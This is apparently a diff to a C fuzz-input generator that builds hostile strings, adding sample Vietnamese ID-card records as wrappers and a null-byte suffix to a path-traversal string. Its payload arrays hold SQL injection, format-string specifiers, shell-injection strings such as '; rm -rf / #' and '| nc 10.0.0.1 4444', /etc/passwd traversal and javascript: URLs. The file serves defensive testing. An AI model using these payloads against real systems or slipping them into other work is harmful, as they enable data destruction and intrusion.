@@ -50,6 +50,7 @@ static void write_somewhere(struct maker *maker, const char *word)
         { "", "" },
         { "001199000017|012345678|", "|01021999|Nữ|Số 1, Ngõ 2, Xã Mẫu, Tỉnh Thử|15062021" },
         { "001199000017||Nguyễn ", "|01021999|Nữ|Xã Mẫu, Tỉnh Thử|15062021" },
+        { "001199000017||Nguyễn Thị Thử|01021999|Nữ|Số 1 ", ", Xã Mẫu, Tỉnh Thử|15062021" },
         { "D-", "-123456" },
     };
     uint32_t place = below(maker, (uint32_t)ARRAY_LEN(places));
@@ -114,7 +115,7 @@ static void write_payload(struct maker *maker, enum hostile_kind kind)
     static const char *const sql[] = { "' OR '1'='1' -- ", "'; DROP TABLE outbox; --", "\" UNION SELECT * FROM t--" };
     static const char *const formats[] = { "%s%s%s%s%n", "%x.%x.%x.%08x", "{0}{1}%p", "%99999999d" };
     static const char *const shells[] = { "$(reboot)", "`id`;", "; rm -rf / #", "| nc 10.0.0.1 4444 ",
-                                          "../../etc/passwd" };
+                                          "../../etc/passwd%00" };
     static const char *const links[] = {
         "https://",  "http://", "HTTPS://evil.example/", "javascript:alert(1)//", "file:///",
         "intent://", "www.",    "market://details?id=",  "data:text/html,",       "ftp://x@"
@@ -143,7 +144,11 @@ static void write_payload(struct maker *maker, enum hostile_kind kind)
         write_somewhere(maker, one_of(maker, shells, ARRAY_LEN(shells)));
         break;
     case HOSTILE_URL:
-        write_text(maker, "", one_of(maker, links, ARRAY_LEN(links)), "/?q=1");
+        if (below(maker, 2))
+            write_text(maker, "", one_of(maker, links, ARRAY_LEN(links)), "/?q=1");
+        else
+            write_text(maker, "001199000017||Nguyễn Thị Thử|01021999|Nữ|", one_of(maker, links, ARRAY_LEN(links)),
+                       "/?q=1|15062021");
         break;
     case HOSTILE_BIDI:
         write_hidden(maker, one_of(maker, bidi, ARRAY_LEN(bidi)));
